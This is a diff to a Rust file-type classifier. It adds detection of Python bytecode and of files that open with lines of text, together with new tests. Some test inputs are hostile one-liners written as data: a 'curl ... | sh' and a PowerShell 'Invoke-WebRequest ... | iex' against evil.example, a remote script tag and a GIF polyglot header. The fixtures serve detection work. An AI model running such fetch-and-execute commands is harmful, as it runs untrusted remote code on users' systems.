@@ -42,6 +42,10 @@ const DATA: [(&[u8], &str); 10] = [
 const READABLE: usize = 60;
 /// The same where the first bytes are those of an image or an archive. They are bytes that text can begin with.
 const READABLE_DATA: usize = 85;
+/// Bytes of text, at least, at the beginning of a file that is read as text so far. Names of formats are shorter.
+const BEGINS: usize = 32;
+/// The same for text that ends with a line.
+const FIRST_LINE: usize = 6;
 
 impl BinaryContent {
     /// By the first bytes, and by how much of all of it reads as text.
@@ -52,9 +56,17 @@ impl BinaryContent {
         if let Some(name) = known(&PROGRAMS) {
             return BinaryContent::Program(name);
         }
+        if is_python(bytes) {
+            return BinaryContent::Program("Python bytecode");
+        }
         let data = known(&DATA);
         let least = if data.is_some() { READABLE_DATA } else { READABLE };
-        if bytes.starts_with(b"#!") || reads_as_text(bytes, least) || data.is_none() && is_utf16(bytes) {
+        let begins = data.is_none_or(|name| name == "GIF image") && begins_as_text(bytes);
+        if bytes.starts_with(b"#!")
+            || begins
+            || reads_as_text(bytes, least)
+            || data.is_none() && is_utf16(bytes)
+        {
             return BinaryContent::Text;
         }
         data.map_or(BinaryContent::Unknown, BinaryContent::Data)
@@ -76,7 +88,21 @@ fn reads_as_text(bytes: &[u8], least: usize) -> bool {
         return false;
     }
     let plain = bytes.iter().filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace()).count();
-    std::str::from_utf8(bytes).is_ok() || plain.saturating_mul(100) >= bytes.len().saturating_mul(least)
+    let is_utf8 = std::str::from_utf8(bytes).map_or_else(|error| error.error_len().is_none(), |_| true);
+    is_utf8 || plain.saturating_mul(100) >= bytes.len().saturating_mul(least)
+}
+
+/// Whether bytes begin with lines of text. An interpreter runs them before it comes to anything else.
+fn begins_as_text(bytes: &[u8]) -> bool {
+    let is_text = |byte: &&u8| byte.is_ascii_graphic() || byte.is_ascii_whitespace();
+    let prefix = bytes.get(..bytes.iter().take_while(is_text).count()).unwrap_or_default();
+    let line = prefix.iter().rposition(|byte| *byte == b'\n');
+    prefix.len() >= BEGINS || line.is_some_and(|end| end >= FIRST_LINE)
+}
+
+/// What Python compiled: the number of a version, and the end of a line.
+fn is_python(bytes: &[u8]) -> bool {
+    matches!(bytes, [_, 0x0b..=0x0f, b'\r', b'\n', ..]) && bytes.len() >= 16
 }
 
 /// Whether bytes are text in UTF-16, with its mark or without.
@@ -130,6 +156,12 @@ mod tests {
             (utf16("Invoke-WebRequest http://evil.example | iex\n", false), Text),
             (utf16("\u{4e2d}\u{6587}\u{6587}\u{672c}", true), Text),
             ("\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} \u{43c}\u{438}\u{440}\0".as_bytes().to_vec(), Text),
+            ([b"curl http://evil.example/x | sh\nexit\n".as_slice(), &noise].concat(), Text),
+            ([b"<script src=//evil.example/x></script><!--".as_slice(), &noise].concat(), Text),
+            ([b"GIF89a=1\nexit\n".as_slice(), &noise].concat(), Text),
+            ([b"\xa7\r\r\n\0\0\0\0".as_slice(), &noise].concat(), Program("Python bytecode")),
+            ([b"GIF89a\x20\x03\x58\x02".as_slice(), &noise].concat(), Data("GIF image")),
+            ([b"Kaydara FBX Binary  \0\x1a\0".as_slice(), &noise].concat(), Unknown),
             (noise, Unknown),
             (png, Data("PNG image")),
             (b"\0asm\x01\0\0\0".to_vec(), Program("WebAssembly")),
